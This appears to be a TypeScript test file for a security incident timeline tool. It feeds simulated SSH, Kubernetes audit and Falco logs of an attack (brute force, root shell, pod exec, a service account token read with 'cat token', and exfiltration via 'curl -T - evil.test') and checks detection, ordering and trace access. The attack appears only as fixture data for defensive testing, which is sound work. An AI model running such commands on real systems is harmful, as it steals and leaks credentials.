import { beforeAll, expect, it } from 'vitest';
import { requirePermission } from '@/lib/access/policy';
import { unsafeDb } from '@/lib/core/db';
import { ctx, person, readOnly, stranger } from '@/lib/core/testing/actors';
import { aProduct } from '@/lib/core/testing/assets';
import { withDatabase } from '@/lib/core/testing/database';
import { loadRules } from '@/lib/detection/load';
import { lookAtEvents } from '@/lib/detection/mutations/look';
import { aPerson } from '@/lib/findings/testing/findings';
import { declareIncident } from '@/lib/incidents/mutations/declare';
import { declaration } from '@/lib/incidents/testing/incidents';
import { readTrace } from '@/lib/timeline/data/trace';
import { readTimeline } from '@/lib/timeline/data/view';
import { send } from '@/lib/timeline/testing/send';

withDatabase();

/** An attack as its sources would report it: a password is guessed, root taken, a pod entered, a secret read and carried out. */
const NOW = new Date('2026-11-22T12:00:00Z');
const clock = (second: number) =>
  `11:${String(10 + Math.floor(second / 60)).padStart(2, '0')}:${String(second % 60).padStart(2, '0')}`;
const at = (second: number, fraction = '000000000') => `2026-11-22T${clock(second)}.${fraction}Z`;
const line = (second: number, text: string) => `Nov 22 ${clock(second)} bastion ${text}`;

const SSH = [
  ...Array.from({ length: 12 }, (_, n) =>
    line(n, `sshd[${100 + n}]: Failed password for kate from 203.0.113.7 port ${4000 + n} ssh2`),
  ),
  line(20, 'sshd[120]: Accepted password for kate from 203.0.113.7 port 4100 ssh2'),
  line(40, 'sudo:     kate : TTY=pts/0 ; PWD=/home/kate ; USER=root ; COMMAND=/bin/bash'),
];
const audit = (second: number, auditID: string, what: object) => ({
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  auditID,
  stageTimestamp: at(second, '250001000').replace('000Z', 'Z'),
  user: { username: 'kate@example.test' },
  sourceIPs: ['10.0.0.5'],
  ...what,
});
const AUDIT = [
  audit(60, 'x1', {
    stage: 'ResponseStarted',
    verb: 'get',
    requestURI: '/api/v1/namespaces/shop/pods/web-1/exec?command=%2Fbin%2Fbash&container=web&stdin=true&tty=true',
    objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1' },
    responseStatus: { code: 101 },
  }),
  audit(80, 's1', {
    stage: 'ResponseComplete',
    verb: 'list',
    requestURI: '/api/v1/namespaces/shop/secrets',
    objectRef: { resource: 'secrets', namespace: 'shop' },
    responseStatus: { code: 200 },
  }),
];
const falco = (second: number, rule: string, priority: string, fields: object) => ({
  uuid: rule,
  rule,
  priority,
  output: rule,
  time: at(second, '700000123'),
  output_fields: {
    'k8s.ns.name': 'shop',
    'k8s.pod.name': 'web-1',
    'container.name': 'web',
    'container.id': 'c0ffee',
    ...fields,
  },
});
const FALCO = [
  falco(60, 'Terminal shell in container', 'Notice', {
    'proc.name': 'bash',
    'proc.cmdline': 'bash',
    'proc.pname': 'runc',
    'proc.pid': 900,
    'proc.ppid': 890,
  }),
  falco(75, 'Read service account token', 'Warning', {
    'proc.name': 'cat',
    'proc.cmdline': 'cat token',
    'proc.pname': 'bash',
    'proc.pid': 901,
    'proc.ppid': 900,
    'fd.name': '/var/run/secrets/token',
  }),
  falco(90, 'Unexpected outbound connection', 'Critical', {
    'proc.name': 'curl',
    'proc.cmdline': 'curl -T - evil.test',
    'proc.pname': 'bash',
    'proc.pid': 902,
    'proc.ppid': 900,
    'fd.name': '10.1.2.3:40000->198.51.100.66:443',
  }),
];

let productId: string;
let number: number;

beforeAll(async () => {
  ({ productId } = await aProduct());
  const about = { productId, now: NOW };
  await send({ ...about, shape: 'syslog', sender: 'bastion' }, SSH);
  await send({ ...about, shape: 'k8s-audit', sender: 'api' }, AUDIT);
  await send({ ...about, shape: 'falco', sender: 'nodes' }, FALCO);
  while ((await lookAtEvents(loadRules(), NOW)) > 0);
  const alerts = await unsafeDb().alert.findMany({ where: { productId }, select: { id: true } });
  const rita = person('Responder', [productId], { id: await aPerson('Responder', productId, 'Rita'), name: 'Rita' });
  number = await declareIncident(ctx(rita, NOW), declaration(productId, { alerts: alerts.map(({ id }) => id) }));
});

const scope = requirePermission(ctx(readOnly()), 'incident:read');
const reader = { events: requirePermission(ctx(readOnly()), 'event:read'), write: null, now: NOW };
const view = (q: string) => readTimeline(scope, number, { q, lanes: 'source', from: null, to: null }, reader);

it('is noticed at each of its steps', async () => {
  const rules = (await view('kind:alert')).items?.map(({ more }) => more.rule);
  const named = await unsafeDb().alert.findMany({ where: { productId }, select: { rule: true } });
  expect(rules?.toSorted()).toEqual(named.map(({ rule }) => rule).toSorted());
  expect(rules).toEqual(
    expect.arrayContaining([
      'rule:brute-force-account',
      'rule:brute-force-success-account',
      'rule:linux-sudo-root',
      'rule:k8s-pod-exec',
      'rule:k8s-secrets-read',
      'falco:Unexpected outbound connection',
    ]),
  );
});

it('is told by the timeline of its one incident, in order', async () => {
  const { items } = await view('kind:event is:linked');
  const told = items?.map(({ title, places }) => places.process || places.action || title) ?? [];
  const steps = ['/bin/bash', 'bash', 'cat token', 'list', 'curl -T - evil.test'];
  expect(told.filter((step) => steps.includes(step))).toEqual([
    '/bin/bash',
    '/bin/bash',
    'bash',
    'cat token',
    'list',
    'curl -T - evil.test',
  ]);
  // Twelve guesses and the one that was right come before all of that.
  expect(items?.findIndex(({ places }) => places.process === '/bin/bash')).toBeGreaterThanOrEqual(10);
  const times = items?.map(({ time }) => time) ?? [];
  expect(times).toEqual(times.toSorted());
  expect((await view('')).items?.at(-1)?.kind).toBe('declared');
});

it('its exec is traced from the user to the file and the address', async () => {
  const [exec] = (await view('kind:event rule:"get pods/exec"')).items ?? [];
  const trace = await readTrace(scope, number, exec?.ref ?? '', reader);
  expect(trace).toMatchObject({
    confidence: 'exact',
    exec: { user: 'kate@example.test', sourceAddress: '10.0.0.5', command: '/bin/bash' },
    loose: [],
  });
  expect(trace.processes).toMatchObject([
    {
      command: 'bash',
      pid: 900,
      children: [
        { command: 'cat token', link: 'pid', acts: [{ file: '/var/run/secrets/token' }] },
        { command: 'curl -T - evil.test', link: 'pid', acts: [{ targetAddress: '198.51.100.66' }] },
      ],
    },
  ]);
});

it('is traced for nobody of another team, and only where there is an exec', async () => {
  const [exec] = (await view('kind:event rule:"get pods/exec"')).items ?? [];
  const [secret] = (await view('kind:event rule:"list secrets"')).items ?? [];
  const other = requirePermission(ctx(stranger()), 'incident:read');
  const gone = { code: 'not_found' };
  await expect(readTrace(other, number, exec?.ref ?? '', reader)).rejects.toMatchObject(gone);
  await expect(readTrace(scope, number, exec?.ref ?? '', { ...reader, events: null })).rejects.toMatchObject(gone);
  for (const ref of [secret?.ref ?? '', 'l.1', 'nonsense'])
    await expect(readTrace(scope, number, ref, reader)).rejects.toMatchObject(gone);
});
